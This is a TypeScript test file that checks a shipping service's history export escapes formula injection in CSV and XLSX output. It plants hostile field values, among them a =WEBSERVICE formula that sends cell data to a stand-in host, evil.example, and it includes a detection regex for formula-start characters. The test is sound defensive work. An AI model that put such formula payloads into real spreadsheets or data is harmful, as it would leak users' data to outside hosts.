// #16 item 5: formula injection through the history export. An API client's city and a rate card's name and
// service reach history through a real /v1 call, then the desk's history:export writes them: no reader,
// naive or RFC 4180, may get a cell a spreadsheet would run as a formula, and an RFC 4180 reader gets the
// text back as it was, but for the guard's apostrophes.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inflateRawSync } from 'node:zlib';
import type { ExportedFile } from '../../../core/contract/operations';
import { FIRST_TWO_CARRIERS, SHIPMENT, startTestService, type TestService } from '../../helpers/service';

const CITY = 'Казань,=1+1,';
const CARD_NAME = '=WEBSERVICE("http://evil.example/?"&A2)';
const SERVICE = 'Курьер;@SUM(1+1), -2+3';
const CARD = [
  'from,to,max_weight_grams,price_rub,days_min,days_max,delivery_type,service_code,service_name',
  `*,*,30000,500,1,2,door,fast,"${SERVICE}"`,
].join('\r\n');
/** Where a spreadsheet would start a formula; `'` (the guard) is not one of them. */
const FORMULA_START = /^[=+\-@\t\r]/;

let t: TestService;
beforeAll(async () => {
  t = await startTestService({ settings: FIRST_TWO_CARRIERS });
  const card = await t.service.desk.dispatch('ratecards:import', {
    code: 'evil',
    name: CARD_NAME,
    csv: CARD,
  });
  expect(card.ok).toBe(true);
  const r = await t.postRates({ ...SHIPMENT, to: { city: CITY, postal_code: '420000' }, carriers: ['evil'] });
  expect(r.status).toBe(200);
  expect(r.json.rates[0].carrier_name).toBe(CARD_NAME);
});
afterAll(() => t.close());

async function exported(format: 'csv' | 'xlsx'): Promise<Buffer> {
  const r = await t.service.desk.dispatch('history:export', { format });
  if (!r.ok) throw new Error(r.error.message);
  return Buffer.from((r.value as ExportedFile).base64, 'base64');
}

/** A strict RFC 4180 reader (a quote inside an unquoted field, or text after a closing quote, throws). */
function rfc4180(text: string, separator: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"') {
          if (text[i + 1] !== '"') break;
          i += 1;
        }
        field += text[i];
        i += 1;
      }
      i += 1;
    } else {
      while (i < text.length && text[i] !== separator && text[i] !== '\r') {
        if (text[i] === '"') throw new Error(`a quote inside an unquoted field at ${i}`);
        field += text[i];
        i += 1;
      }
    }
    fields.push(field);
    if (text[i] === separator) {
      i += 1;
      continue;
    }
    if (text.startsWith('\r\n', i)) i += 2;
    else if (i < text.length) throw new Error(`text after a closing quote at ${i}`);
    records.push(fields);
    fields = [];
    if (i >= text.length) return records;
  }
}

/** What the guard adds, taken away: an apostrophe before a formula character where a cell can start. */
const unguard = (text: string): string => text.replace(/(^|[,;\r\n])([ "]*)'(?=[=+\-@\t\r])/g, '$1$2');

describe('history:export as CSV', () => {
  it('a reader splitting on "," or ";" and lines, ignoring quotes, gets no cell that starts a formula', async () => {
    const text = (await exported('csv')).toString('utf8').replace(/^\uFEFF/, '');
    const cells = text.split(/\r\n|\r|\n/).flatMap((line) => line.split(/[,;]/));
    expect(cells.length).toBeGreaterThan(20);
    // Such readers may also drop the quotes and the spaces a cell starts with.
    const bad = cells.filter((c) => FORMULA_START.test(c) || FORMULA_START.test(c.replace(/^[ "]+/, '')));
    expect(bad).toEqual([]);
  });

  it('an RFC 4180 reader gets every field back as it was, but for the guard', async () => {
    const text = (await exported('csv')).toString('utf8');
    expect(text.startsWith('\uFEFF"')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = rfc4180(text.slice(1), ';');
    // #20: warehouse and author after «Цены».
    expect(header).toHaveLength(12);
    const row = rows.find((r) => r[2]?.startsWith('Казань'));
    expect(row).toBeDefined();
    // Guarded where a cell could start, and nowhere else.
    expect(row![2]).toBe("Казань,'=1+1,");
    expect(row![4]).toBe(`'${CARD_NAME}`);
    expect(row![5]).toBe("Курьер;'@SUM(1+1), '-2+3");
    expect([row![2]!, row![4]!, row![5]!].map(unguard)).toEqual([CITY, CARD_NAME, SERVICE]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
  });
});

describe('history:export as XLSX', () => {
  it('writes every text as a string, never a formula, and marks formula-like text as typed text', async () => {
    const file = await exported('xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const values: unknown[] = [];
    ws.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
    expect(values).toContain(CITY);
    expect(values).toContain(CARD_NAME);
    expect(values).toContain(SERVICE);
    expect(values.every((v) => typeof v === 'string' || typeof v === 'number')).toBe(true);
    // The sheet itself: no <f> anywhere, and the name that starts with "=" carries quotePrefix.
    const sheet = zipEntry(file, 'xl/worksheets/sheet1.xml');
    expect(sheet).not.toMatch(/<f[\s>]/);
    const styles = zipEntry(file, 'xl/styles.xml');
    const cellXml = sheet.match(/<c r="E\d+" t="inlineStr"( s="(\d+)")?><is><t[^>]*>=WEBSERVICE/);
    expect(cellXml?.[2]).toBeDefined();
    const xfs = [...styles.matchAll(/<cellXfs[^>]*>(.*)<\/cellXfs>/g)][0]![1]!.match(/<xf [^>]*\/>/g)!;
    expect(xfs[Number(cellXml![2])]).toContain('quotePrefix="1"');
  });
});

/** One entry of a ZIP written by core/operations/zip.ts (local headers, deflate or stored). */
function zipEntry(buf: Buffer, name: string): string {
  let at = 0;
  while (buf.readUInt32LE(at) === 0x04034b50) {
    const method = buf.readUInt16LE(at + 8);
    const size = buf.readUInt32LE(at + 18);
    const nameLength = buf.readUInt16LE(at + 26);
    const extra = buf.readUInt16LE(at + 28);
    const entryName = buf.subarray(at + 30, at + 30 + nameLength).toString('utf8');
    const start = at + 30 + nameLength + extra;
    const data = buf.subarray(start, start + size);
    if (entryName === name) {
      return (method === 8 ? inflateRawSync(data) : data).toString('utf8');
    }
    at = start + size;
  }
  throw new Error(`${name} not in the archive`);
}
